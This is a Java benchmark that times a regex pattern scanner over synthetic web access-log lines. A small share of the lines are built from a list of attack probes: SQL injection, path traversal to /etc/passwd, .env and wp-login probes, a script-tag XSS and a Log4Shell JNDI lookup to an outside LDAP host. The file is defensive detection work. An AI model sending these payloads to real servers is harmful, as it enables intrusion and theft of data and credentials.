package dev.vedette.pattern;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.lang.management.ManagementFactory;
import java.lang.management.ThreadMXBean;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;
import java.util.random.RandomGenerator;

/// Confined to one run. Prints access-log lines per CPU-second for the patterns of
/// `bench-patterns.txt`; with a directory as argument it also writes the lines there, for ripgrep.
/// Run by `bench/pattern`.
final class PatternBench {
  private static final int LINES = 200_000;
  private static final int ROUNDS = 5;
  private static final ThreadMXBean THREADS = ManagementFactory.getThreadMXBean();

  private PatternBench() {}

  /// Lines in one array.
  record Corpus(String name, byte[] bytes, int[] from, int[] to) {}

  public static void main(String[] args) throws IOException {
    PatternSet.Builder builder = PatternSet.builder();
    for (String regex : patterns()) {
      builder.add(Pattern.regex(regex, Flag.IGNORE_CASE));
    }
    PatternSet set = builder.build();
    for (Corpus corpus :
        List.of(corpus("repeating", 1, true), corpus("low-repetition", 2, false))) {
      if (args.length > 0) {
        Files.write(Path.of(args[0], corpus.name + ".log"), corpus.bytes);
      }
      Scanner scanner = set.scanner();
      print(corpus, "one at a time", scanner, () -> single(scanner, corpus, set.words()));
      Scanner interleaved = set.scanner();
      print(
          corpus, "interleaved", interleaved, () -> interleaved(interleaved, corpus, set.words()));
    }
  }

  static List<String> patterns() {
    try (InputStream in = PatternBench.class.getResourceAsStream("bench-patterns.txt")) {
      if (in == null) {
        throw new IOException("bench-patterns.txt is missing");
      }
      return new String(in.readAllBytes(), StandardCharsets.UTF_8).lines().toList();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private interface Run {
    int matched();
  }

  private static void print(Corpus corpus, String how, Scanner scanner, Run run) {
    int matched = 0;
    for (int i = 0; i < 3; i++) {
      matched = run.matched();
    }
    double[] rates = new double[ROUNDS];
    for (int i = 0; i < ROUNDS; i++) {
      long before = THREADS.getCurrentThreadCpuTime();
      matched = run.matched();
      rates[i] = LINES * 1e9 / (THREADS.getCurrentThreadCpuTime() - before);
    }
    Arrays.sort(rates);
    System.out.printf(
        Locale.ROOT,
        "%-15s %-14s %6.2f million lines per CPU-second (%.0f MB/s), %d of %d match, %d states, %d"
            + " flushes, gave up %d%n",
        corpus.name,
        how,
        rates[ROUNDS / 2] / 1e6,
        rates[ROUNDS / 2] * corpus.bytes.length / LINES / 1e6,
        matched,
        LINES,
        scanner.states(),
        scanner.flushes(),
        scanner.gaveUp());
  }

  private static int single(Scanner scanner, Corpus corpus, int words) {
    long[] hits = new long[words];
    int matched = 0;
    for (int i = 0; i < LINES; i++) {
      if (scanner.scan(corpus.bytes, corpus.from[i], corpus.to[i], hits)) {
        matched++;
        Arrays.fill(hits, 0);
      }
    }
    return matched;
  }

  private static int interleaved(Scanner scanner, Corpus corpus, int words) {
    int batch = 1_000;
    long[] hits = new long[words * batch];
    int[] from = new int[batch];
    int[] to = new int[batch];
    int matched = 0;
    for (int i = 0; i < LINES; i += batch) {
      System.arraycopy(corpus.from, i, from, 0, batch);
      System.arraycopy(corpus.to, i, to, 0, batch);
      Arrays.fill(hits, 0);
      matched += scanner.scanAll(corpus.bytes, from, to, batch, hits);
    }
    return matched;
  }

  private static final String[] METHODS = {"GET", "GET", "GET", "GET", "POST", "HEAD"};
  private static final String[] FOLDERS = {
    "products",
    "blog",
    "static",
    "assets",
    "account",
    "cart",
    "news",
    "images",
    "docs",
    "help",
    "media"
  };
  private static final String[] NAMES = {
    "index.html",
    "main.css",
    "app.js",
    "logo.png",
    "overview",
    "list",
    "detail",
    "summary",
    "photo.jpg"
  };
  private static final String[] AGENTS = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
        + " Chrome/%d.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)"
        + " Version/17.%d Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:%d.0) Gecko/20100101 Firefox/%1$d.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_%d like Mac OS X) AppleWebKit/605.1.15 (KHTML, like"
        + " Gecko) Mobile/15E148"
  };
  private static final String[] ATTACKS = {
    "/?id=1%%20union%%20select%%201,2,%d",
    "/..%%2f..%%2fetc/passwd?%d",
    "/wp-login.php?%d",
    "/.env?%d",
    "/search?q=<script>alert(%d)</script>",
    "/?x=${jndi:ldap://198.51.100.7/%d}"
  };

  /// Combined-log lines; about one in a hundred is an attack. With `repeating` the values come from
  /// small sets, else nearly every line is new.
  static Corpus corpus(String name, long seed, boolean repeating) {
    RandomGenerator random = new SplittableRandom(seed);
    int variety = repeating ? 40 : 1_000_000;
    StringBuilder text = new StringBuilder();
    int[] from = new int[LINES];
    int[] to = new int[LINES];
    for (int i = 0; i < LINES; i++) {
      from[i] = text.length();
      String path;
      if (random.nextInt(100) == 0) {
        path = ATTACKS[random.nextInt(ATTACKS.length)].formatted(random.nextInt(variety));
      } else {
        path =
            "/" + pick(random, FOLDERS) + "/" + word(random, variety) + "/" + pick(random, NAMES);
        if (random.nextInt(3) == 0) {
          path += "?id=" + random.nextInt(variety) + "&ref=" + word(random, variety);
        }
      }
      int host = random.nextInt(repeating ? 60 : 1 << 24);
      text.append(
          "198.%d.%d.%d - - [%02d/Nov/2026:%02d:%02d:%02d +0000] \"%s %s HTTP/1.1\" %d %d \"https://www.example.com/%s\" \"%s\""
              .formatted(
                  18 + (host >> 16) % 2,
                  host >> 8 & 255,
                  host & 255,
                  1 + random.nextInt(28),
                  random.nextInt(24),
                  random.nextInt(60),
                  random.nextInt(60),
                  pick(random, METHODS),
                  path,
                  random.nextInt(10) == 0 ? 404 : 200,
                  random.nextInt(variety),
                  pick(random, FOLDERS),
                  pick(random, AGENTS).formatted(1 + random.nextInt(repeating ? 5 : 140))));
      to[i] = text.length();
      text.append('\n');
    }
    return new Corpus(name, text.toString().getBytes(StandardCharsets.ISO_8859_1), from, to);
  }

  private static <T> T pick(RandomGenerator random, T[] from) {
    return from[random.nextInt(from.length)];
  }

  private static String word(RandomGenerator random, int variety) {
    int seed = random.nextInt(variety);
    StringBuilder out = new StringBuilder();
    RandomGenerator letters = new SplittableRandom(seed);
    int length = 4 + letters.nextInt(8);
    for (int i = 0; i < length; i++) {
      out.append("aeiourstlnmdcpbgh-".charAt(letters.nextInt(18)));
    }
    return out.toString();
  }
}
